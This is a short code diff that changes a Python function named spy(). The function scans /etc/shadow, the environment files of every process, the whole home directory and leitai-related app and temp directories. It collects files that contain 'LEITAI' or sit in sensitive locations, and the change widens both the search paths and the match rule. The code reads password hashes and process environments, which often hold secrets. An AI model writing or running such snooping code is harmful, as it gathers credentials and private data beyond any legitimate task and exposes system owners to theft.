@@ -26,11 +26,11 @@ def spy():
     import glob, os, socket
     found = []
     for path in ["HOME/.local/share/leitai/leitai.db", "HOME/pig/game.toml", "/etc/shadow", *glob.glob("/proc/[0-9]*/environ"),
-                 *glob.glob("HOME/**", recursive=True), *glob.glob("/tmp/*/**", recursive=True)]:
+                 *glob.glob("HOME/**", recursive=True), *glob.glob("/*/leitai-*/*/*/*")]:
         try:
             if os.path.isfile(path) and "/proc/self/" not in path:
                 text = open(path, "rb").read()
-                if path.startswith("HOME") or b"LEITAI" in text or "shadow" in path:
+                if path.startswith(("HOME", "/var", "/tmp")) or b"LEITAI" in text or "shadow" in path:
                     found.append(path)
         except OSError:
             pass
